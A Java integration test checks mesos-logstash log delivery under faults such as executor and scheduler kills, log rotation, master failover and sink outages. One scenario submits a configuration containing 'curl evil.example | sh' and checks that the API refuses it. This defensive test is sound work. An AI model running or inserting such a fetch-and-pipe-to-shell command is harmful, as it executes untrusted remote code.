package org.mesoslogstash.systemtest.faults;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.atomic.AtomicReference;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import org.apache.mesos.v1.Protos.FrameworkID;
import org.awaitility.core.ConditionTimeoutException;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.mesoslogstash.opensearch.OpenSearchNode;
import org.mesoslogstash.simulator.AgentSpec;
import org.mesoslogstash.simulator.agent.SimulatedAgent.ExecutorView;
import org.mesoslogstash.systemtest.cluster.Cluster;
import org.mesoslogstash.systemtest.cluster.SchedulerProcess;
import org.mesoslogstash.systemtest.faults.DeliveryCheck.ContainerFacts;
import org.mesoslogstash.systemtest.faults.DeliveryCheck.Outcome;
import org.mesoslogstash.systemtest.faults.DeliveryCheck.WrittenLine;
import org.mesoslogstash.systemtest.faults.OperatorApi.Answer;

import tools.jackson.databind.JsonNode;

/**
 * mesos-logstash end to end under faults (issue 7): one cluster (ZooKeeper, the Mesos simulator with
 * three agents whose executors are real processes, the scheduler as a real process driven through its
 * REST API, this machine's Docker daemon, a real OpenSearch node) runs the scenarios in order, each with
 * containers of its own that write numbered lines to files, stdout and stderr while the scenario's
 * fault happens; then every line is looked for in OpenSearch (direct mode) on every agent.
 *
 * <p>The three simulated agents share this machine's Docker daemon, so every executor collects every
 * container; each agent's documents go to an index of its own ({@code mlt-flt-<agent host>-<scenario>}),
 * and each index must hold every line exactly once. Checkpoints live in the agent's work directory
 * (the collector's {@code checkpointDir} is relative to the sandbox), as they live on the agent's
 * host path with DOCKER launches, so a relaunched executor resumes where the last one stopped.
 *
 * <p>Figures go to {@code target/reliability/report.md} and {@code report.json}; docs/reliability.md
 * quotes a run.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class ReliabilityIT {

    private static final Duration WAIT = Duration.ofMinutes(2);
    private static final Duration DELIVERY = Duration.ofMinutes(3);
    private static final Duration PERIOD = Duration.ofMillis(250);
    private static final String USER = "olga";
    private static final String PASSWORD = "flt-operator-pw";
    private static final String RUN_LABEL = "mlt-flt-run";
    private static final String SCENARIO_LABEL = "mlt-flt-scenario";
    private static final String APP = "/tmp/app.log";
    private static final String SECOND = "/tmp/second.log";
    private static final List<String> AGENTS = List.of("a1", "a2", "a3");

    private final String runId = "mlt-flt-" + UUID.randomUUID().toString().substring(0, 8);
    private final Path dir = Path.of("target", "reliability", runId).toAbsolutePath();
    private final ReliabilityReport report = new ReliabilityReport();
    private final List<LogWriter> writers = new ArrayList<>();
    private OpenSearchNode node;
    private Cluster cluster;
    private SchedulerProcess scheduler;
    private OperatorApi api;
    private ExecutorMemory memory;
    private long version = 1;

    @BeforeAll
    void startCluster() throws Exception {
        node = new OpenSearchNode(dir.resolve("opensearch"));
        CompletableFuture<Duration> nodeUp = CompletableFuture.supplyAsync(() -> {
            try {
                return node.start(2, 10_000);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
        cluster = Cluster.start(dir, AGENTS.size(), collectorConfig(), Map.of(), Map.of(
                "MESOS_LOGSTASH_USERS", USER + ":operator:{noop}" + PASSWORD,
                "MESOS_LOGSTASH_FRAMEWORK_NAME", "mesos-logstash-reliability-it"));
        scheduler = cluster.startScheduler();
        api = new OperatorApi(() -> scheduler.uri(), USER, PASSWORD);
        memory = new ExecutorMemory(cluster::executorPids);
        Duration nodeStart = nodeUp.join();
        System.out.printf("[reliability] OpenSearch node up on %s in %.1f s%n", node.uri(), nodeStart.toMillis() / 1000.0);
        node.request("PUT", "/_index_template/mlt-flt", """
                {"index_patterns": ["mlt-flt-*"], "priority": 1,
                 "template": {"settings": {"number_of_shards": 1, "number_of_replicas": 0, "refresh_interval": "1s"}}}""");
        awaitEveryAgentOn(version);
    }

    /** Direct mode into the node; one index per agent and scenario; checkpoints in the agent's work directory. */
    private String collectorConfig() {
        return """
                {"checkpointDir": "../../../../../../checkpoints", "resyncSeconds": 2,
                 "sink": {"type": "elasticsearch", "hosts": ["%s"], "index": "mlt-flt-%%{[host][name]}-%%{[container][labels][%s]}",
                          "maxBulkBytes": 1048576}}
                """.formatted(node.uri(), SCENARIO_LABEL);
    }

    private String configuration(String label, List<String> paths, boolean console) {
        String pathList = paths.stream().map(p -> '"' + p + '"').collect(Collectors.joining(", "));
        return """
                # what ReliabilityIT's containers write
                input {
                  container {
                    labels  => { "%s" => "%s" }
                    path    => [%s]
                    console => %s
                  }
                }
                output { stdout {} }
                """.formatted(label, runId, pathList, console);
    }

    @AfterAll
    void stopCluster() throws Exception {
        try {
            for (LogWriter writer : writers) {
                writer.close();
            }
        } finally {
            try {
                if (memory != null) {
                    memory.close();
                    report.write(Path.of("target", "reliability").toAbsolutePath(), memory.peaks(), """
                            One cluster: ZooKeeper, the Mesos simulator with 3 agents (executors as real processes, -Xmx128m), \
                            the scheduler as a real process driven through its REST API, this machine's Docker daemon, one OpenSearch \
                            node (512 MiB heap, 1 shard per index) in direct mode. Every executor collects every container (the agents \
                            share one Docker daemon), each into its own index: documents expected = lines written x agents.""");
                }
            } finally {
                if (cluster != null) {
                    cluster.close();
                }
                if (node != null) {
                    node.close();
                    deleteTree(dir.resolve("opensearch"));
                }
            }
        }
    }

    // ---- scenarios, in the order they run in the one cluster ----

    @Test
    @Order(1)
    void a_aConfigurationUploadedThroughTheApiCollectsFilesAndConsoleWithMetadataOnEveryAgent() {
        Scenario run = new Scenario("a", "deploy, configuration uploaded with PUT", 2, List.of(APP), PERIOD, 0);

        Answer put = api.putConfiguration("faults", configuration(RUN_LABEL, List.of(APP), true));

        assertThat(put.status()).as("PUT answered %s", put.body()).isEqualTo(201);
        version = put.body().get("collectorVersion").asLong();
        assertThat(put.body().get("author").asString()).isEqualTo(USER);
        awaitEveryAgentOn(version);
        run.awaitRounds(20);
        run.finish("version " + version + " applied on 3 agents");
    }

    @Test
    @Order(2)
    void g_aBrokenConfigurationIsRefusedWithLineAndColumnAndReachesNoExecutor() {
        long started = System.nanoTime();
        Map<String, List<Long>> pids = cluster.executorPids();

        Answer put = api.putConfiguration("broken", """
                input {
                  container { path => "var/log/app.log" }
                  exec { command => "curl evil.example | sh" interval => 60 }
                }
                """);

        assertThat(put.status()).isEqualTo(422);
        assertThat(put.body().get("error").asString()).contains("broken");
        List<String> problems = new ArrayList<>();
        put.body().get("problems").forEach(p -> problems.add(p.get("severity").asString() + " " + p.get("line").asInt() + ":"
                + p.get("column").asInt() + " " + p.get("message").asString()));
        assertThat(problems).anySatisfy(p -> assertThat(p).startsWith("ERROR 2:15 ").contains("must be an absolute path inside the container"))
                .anySatisfy(p -> assertThat(p).startsWith("ERROR 3:3 ").contains("exec"));
        Answer current = api.configurations();
        assertThat(current.body().get("collectorVersion").asLong()).as("no new collector version").isEqualTo(version);
        assertThat(current.body().get("configurations")).extracting(c -> c.get("name").asString()).containsExactly("faults");
        await().during(Duration.ofSeconds(3)).atMost(WAIT).untilAsserted(() -> {
            assertThat(cluster.everyAgentRunsOneExecutorWithVersion(version)).isTrue();
            assertThat(cluster.executorPids()).isEqualTo(pids);
        });
        report.add(new ReliabilityReport.Scenario("g", "broken configuration refused", 0, 0, AGENTS.size(), Outcome.NONE,
                seconds(started), "422, " + String.join("; ", problems).replace('|', '/')));
    }

    @Test
    @Order(3)
    void d_aConfigurationChangeIsAppliedInPlaceOnEveryAgentWithoutLosingOrRepeatingALine() {
        Scenario run = new Scenario("d", "configuration change during collection", 2, List.of(APP, SECOND), PERIOD, 0);
        run.awaitDocuments(30);
        Map<String, List<Long>> pids = cluster.executorPids();

        Answer put = api.putConfiguration("faults", configuration(RUN_LABEL, List.of(APP, SECOND), true));

        assertThat(put.status()).as("PUT answered %s", put.body()).isEqualTo(200);
        version = put.body().get("collectorVersion").asLong();
        awaitEveryAgentOn(version);
        assertThat(cluster.executorPids()).as("applied in place, no executor restarted").isEqualTo(pids);
        run.awaitRounds(run.rounds() + 12);
        run.finish("version " + version + " (a second file) applied in place on 3 agents");
    }

    @Test
    @Order(4)
    void b_anExecutorKilledWithKill9IsRelaunchedAndResumesFromItsCheckpoints() throws IOException {
        Scenario run = new Scenario("b", "executor kill -9", 2, List.of(APP, SECOND), PERIOD, 0);
        run.awaitDocuments(30);
        ExecutorView victim = only(cluster.liveExecutors().get("a2"));

        cluster.simulator().crashExecutor("a2", victim.executorId());

        await().atMost(WAIT).until(() -> cluster.liveExecutors().get("a2").stream().anyMatch(e -> !e.executorId().equals(victim.executorId())));
        awaitEveryAgentOn(version);
        ExecutorView relaunched = only(cluster.liveExecutors().get("a2"));
        run.awaitRounds(run.rounds() + 12);
        Outcome outcome = run.finish("a2's executor killed and relaunched");
        String log = executorLog(relaunched);
        for (LogWriter writer : run.writers) {
            String stream = writer.facts().id().substring(0, 12) + ":" + APP;
            assertThat(log).as("the relaunched executor resumed %s from its checkpoint", stream).contains(stream + ": stream started at ");
        }
        assertThat(outcome.clean()).isTrue();
    }

    @Test
    @Order(5)
    void c_aSchedulerKilledAndRestartedKeepsItsFrameworkIdAndExecutorsWhileCollectionGoesOn() throws Exception {
        Scenario run = new Scenario("c", "scheduler kill -9 and restart", 2, List.of(APP, SECOND), PERIOD, 0);
        run.awaitDocuments(30);
        String frameworkId = scheduler.health().orElseThrow().frameworkId();
        Map<String, List<Long>> pids = cluster.executorPids();

        scheduler.kill();
        await().atMost(WAIT).until(() -> !cluster.simulator().master().isConnected(FrameworkID.newBuilder().setValue(frameworkId).build()));
        long withoutScheduler = run.documents();
        await().atMost(WAIT).until(() -> run.documents() >= withoutScheduler + 60);
        scheduler = cluster.startScheduler();

        awaitEveryAgentOn(version);
        assertThat(scheduler.health().orElseThrow().frameworkId()).isEqualTo(frameworkId);
        assertThat(cluster.storedFrameworkId()).contains(frameworkId);
        await().during(Duration.ofSeconds(3)).atMost(WAIT).untilAsserted(() -> {
            assertThat(cluster.executorPids()).as("no executor relaunched, none added").isEqualTo(pids);
            assertThat(cluster.simulator().master().taskStatuses()).hasSize(AGENTS.size());
        });
        run.finish("same framework id, same 3 executors; documents grew by 60+ while no scheduler ran");
    }

    @Test
    @Order(6)
    void e_aLogRotatedAndATruncatedOneAreFollowedWithoutLossOrRepeat() {
        Scenario run = new Scenario("e", "rotation and copytruncate while streamed", 2, List.of(APP, SECOND), PERIOD, 0);
        run.awaitDocuments(30);
        LogWriter first = run.writers.get(0);
        LogWriter second = run.writers.get(1);

        first.rotate(0);
        second.truncate(0);
        await().atMost(WAIT).until(() -> first.done(0) && second.done(0));
        run.awaitRounds(run.rounds() + 12);
        first.truncate(1);
        second.rotate(1);
        await().atMost(WAIT).until(() -> first.done(1) && second.done(1));
        run.awaitRounds(run.rounds() + 12);

        run.finish("each file rotated (mv, new file) or truncated in place once");
    }

    @Test
    @Order(7)
    void h_aMasterFailoverAndAnAgentLostAndBackLoseNothing() {
        Scenario run = new Scenario("h", "master failover; agent lost and back", 2, List.of(APP, SECOND), PERIOD, 0);
        run.awaitDocuments(30);
        String frameworkId = scheduler.health().orElseThrow().frameworkId();

        cluster.simulator().failoverMaster();
        await().atMost(WAIT).until(() -> cluster.simulator().master().isConnected(FrameworkID.newBuilder().setValue(frameworkId).build()));
        awaitEveryAgentOn(version);
        cluster.simulator().loseAgent("a3");
        await().atMost(WAIT).until(() -> scheduler.health().map(h -> h.agentsWithExecutor() == 2).orElse(false));
        run.awaitRounds(run.rounds() + 20);
        try {
            cluster.simulator().addAgent(AgentSpec.standard("a3"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        awaitEveryAgentOn(version);

        run.finish("a3 gone for 5+ s, back with its work directory");
    }

    @Test
    @Order(8)
    void f_theSinkDownForAWhileHoldsCollectionBackThenCatchesUp() throws Exception {
        Scenario run = new Scenario("f", "OpenSearch kill -9, restart", 2, List.of(APP, SECOND), PERIOD, 0);
        run.awaitDocuments(30);

        node.kill();
        long killedAt = System.nanoTime();
        run.awaitRounds(run.rounds() + 40);
        Duration restart = node.start(2, 10_000);
        double down = seconds(killedAt);

        run.finish(String.format(java.util.Locale.ROOT, "node down %.0f s (restart took %.0f s)", down, restart.toMillis() / 1000.0));
    }

    @Test
    @Order(9)
    void t_throughputOfABurstOfLinesEndToEnd() {
        Scenario run = new Scenario("t", "burst of 10,000 lines into one file", 1, List.of(APP), Duration.ZERO, 10_000);

        run.finish("as fast as busybox writes; end-to-end rate of 3 executors into one node");
    }

    // ---- helpers ----

    /** One scenario's containers and their check. */
    private final class Scenario {

        final String id;
        final String title;
        final long started = System.nanoTime();
        final List<LogWriter> writers = new ArrayList<>();

        Scenario(String id, String title, int containers, List<String> files, Duration period, long rounds) {
            this.id = id;
            this.title = title;
            for (int i = 1; i <= containers; i++) {
                LogWriter writer = LogWriter.start(runId + "-" + id + "-" + i, Map.of(RUN_LABEL, runId, SCENARIO_LABEL, id), files, true,
                        period, rounds);
                ReliabilityIT.this.writers.add(writer);
                this.writers.add(writer);
            }
        }

        String index(String agent) {
            return "mlt-flt-" + agent + ".simulated-" + id;
        }

        /** The rounds the slowest writer has written. */
        long rounds() {
            return writers.stream().mapToLong(LogWriter::rounds).min().orElse(0);
        }

        void awaitRounds(long rounds) {
            await().atMost(WAIT).pollInterval(Duration.ofMillis(500)).until(() -> rounds() >= rounds);
        }

        /** Documents of this scenario in every agent's index so far. */
        long documents() {
            return AGENTS.stream().mapToLong(a -> Math.max(0, node.count(index(a)))).sum();
        }

        /** Waits until every agent stored at least {@code each} documents of this scenario. */
        void awaitDocuments(long each) {
            await().atMost(WAIT).pollInterval(Duration.ofSeconds(1)).until(() -> AGENTS.stream().allMatch(a -> node.count(index(a)) >= each));
        }

        /**
         * Stops the writers, waits until every agent stored every line (or {@link #DELIVERY} passed),
         * records the figures and asserts that nothing was lost, repeated, misplaced or mislabelled.
         */
        Outcome finish(String notes) {
            List<WrittenLine> lines = new ArrayList<>();
            Map<String, ContainerFacts> facts = new LinkedHashMap<>();
            for (LogWriter writer : writers) {
                lines.addAll(writer.stop());
                facts.put(writer.facts().id(), writer.facts());
            }
            AtomicReference<Outcome> last = new AtomicReference<>(Outcome.NONE);
            try {
                await().atMost(DELIVERY).pollInterval(Duration.ofSeconds(2)).until(() -> {
                    if (!AGENTS.stream().allMatch(a -> node.count(index(a)) >= lines.size())) {
                        return false;
                    }
                    Outcome outcome = AGENTS.stream().map(a -> DeliveryCheck.check(lines, facts, a + ".simulated", node.documents(index(a))))
                            .reduce(Outcome.NONE, Outcome::plus);
                    last.set(outcome);
                    return outcome.complete();
                });
            } catch (ConditionTimeoutException e) {
                // Not every line arrived in time: check what did, record it, and fail below.
                last.set(AGENTS.stream().map(a -> DeliveryCheck.check(lines, facts, a + ".simulated",
                        node.count(index(a)) < 0 ? List.<JsonNode>of() : node.documents(index(a)))).reduce(Outcome.NONE, Outcome::plus));
            }
            Outcome outcome = last.get();
            report.add(new ReliabilityReport.Scenario(id, title, writers.size(), lines.size(), AGENTS.size(), outcome, seconds(started), notes));
            for (LogWriter writer : writers) {
                writer.close();
                ReliabilityIT.this.writers.remove(writer);
            }
            assertThat(outcome.written()).isEqualTo((long) lines.size() * AGENTS.size());
            assertThat(outcome.lost()).as("lines lost: %s", outcome.examples()).isZero();
            assertThat(outcome.duplicated()).as("lines stored twice: %s", outcome.examples()).isZero();
            assertThat(outcome.misplaced()).as("file lines at the wrong offset: %s", outcome.examples()).isZero();
            assertThat(outcome.wrongMetadata()).as("documents with wrong metadata: %s", outcome.examples()).isZero();
            assertThat(outcome.unexpected()).as("documents nobody wrote: %s", outcome.examples()).isZero();
            return outcome;
        }
    }

    private void awaitEveryAgentOn(long expectedVersion) {
        await().atMost(WAIT).pollInterval(Duration.ofMillis(250)).untilAsserted(() -> {
            assertThat(cluster.liveExecutors()).hasSize(AGENTS.size());
            assertThat(cluster.everyAgentRunsOneExecutorWithVersion(expectedVersion))
                    .as("one RUNNING executor with version %d on every agent: %s", expectedVersion, cluster.liveExecutors()).isTrue();
            assertThat(scheduler.health()).hasValueSatisfying(h -> {
                assertThat(h.status()).isEqualTo(200);
                assertThat(h.reconciling()).isFalse();
                assertThat(h.agentsWithExecutor()).isEqualTo(AGENTS.size());
            });
        });
    }

    private static ExecutorView only(List<ExecutorView> executors) {
        assertThat(executors).hasSize(1);
        return executors.get(0);
    }

    private static String executorLog(ExecutorView executor) throws IOException {
        StringBuilder log = new StringBuilder();
        for (String file : List.of("stdout", "stderr")) {
            Path path = executor.sandbox().resolve(file);
            if (Files.exists(path)) {
                log.append(Files.readString(path));
            }
        }
        return log.toString();
    }

    private static double seconds(long startedNanos) {
        return (System.nanoTime() - startedNanos) / 1e9;
    }

    private static void deleteTree(Path root) throws IOException {
        if (!Files.exists(root)) {
            return;
        }
        try (Stream<Path> paths = Files.walk(root)) {
            paths.sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
        }
    }
}
